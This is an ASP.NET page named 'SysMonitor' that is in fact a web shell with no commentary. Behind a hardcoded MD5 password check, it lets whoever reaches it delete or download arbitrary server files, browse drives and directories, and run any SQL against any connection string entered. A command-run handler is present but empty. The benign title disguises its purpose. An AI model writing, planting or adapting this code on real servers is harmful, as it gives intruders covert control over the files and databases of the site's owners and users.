<%@ Page Language="C#" Debug="true" trace="false" validateRequest="false" %>
<%@ import Namespace="System.IO" %>
<%@ import Namespace="System.Diagnostics" %>
<%@ import Namespace="System.Data" %>
<%@ import Namespace="System.Data.OleDb" %>
<%@ import Namespace="Microsoft.Win32" %>
<script runat="server">
    public string Password = "21232f297a57a5a743894a0e4a801fc3";
    public string SessionName = "SysMonitor";
    public string Act = "", Todo = "";
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Session[SessionName] as string != "OK") { LoginPanel.Visible = true; return; }
        Act = Request["goaction"];
        Todo = Request["todo"];
        if (Act == "del") { File.Delete(Todo); }
        if (Act == "down") { SendFile(Todo); }
        if (Act == "change") { ListDir(Todo); }
    }
    protected void Login_Click(object sender, EventArgs e)
    {
        if (FormsAuthentication.HashPasswordForStoringInConfigFile(PassText.Text, "MD5").ToLower() == Password) Session[SessionName] = "OK";
    }
    void SendFile(string path)
    {
        Response.AddHeader("Content-Disposition", "attachment;filename=" + Path.GetFileName(path));
        Response.ContentType = "application/octet-stream";
        Response.BinaryWrite(File.ReadAllBytes(path));
        Response.End();
    }
    void ListDir(string path)
    {
        string html = "";
        foreach (string drive in Directory.GetLogicalDrives()) html += "<a href=javascript:Command('change','" + drive + "')>" + drive + "</a> ";
        foreach (DirectoryInfo d in new DirectoryInfo(path).GetDirectories()) html += "<br>" + d.Name;
        foreach (FileInfo f in new DirectoryInfo(path).GetFiles()) html += "<br>" + f.Name + " " + f.Length;
        FileList.Text = html;
    }
    protected void Run_Click(object sender, EventArgs e)
    {
    }
    protected void Sql_Click(object sender, EventArgs e)
    {
        OleDbConnection conn = new OleDbConnection();
        conn.ConnectionString = ConnStr.Text;
        conn.Open();
        OleDbCommand comm = new OleDbCommand(SqlText.Text, conn);
        Grid.DataSource = comm.ExecuteReader();
        Grid.DataBind();
    }
</script>
<html><head><title>SysMonitor</title></head><body><form runat="server">
<asp:Panel ID="LoginPanel" runat="server" Visible="false"><asp:TextBox ID="PassText" runat="server" TextMode="Password" /><asp:Button runat="server" Text="Login" OnClick="Login_Click" /></asp:Panel>
<asp:Label ID="FileList" runat="server" />
<asp:TextBox ID="ConnStr" runat="server" /><asp:TextBox ID="SqlText" runat="server" TextMode="MultiLine" />
<asp:Button runat="server" Text="Query" OnClick="Sql_Click" /><asp:GridView ID="Grid" runat="server" />
</form></body></html>
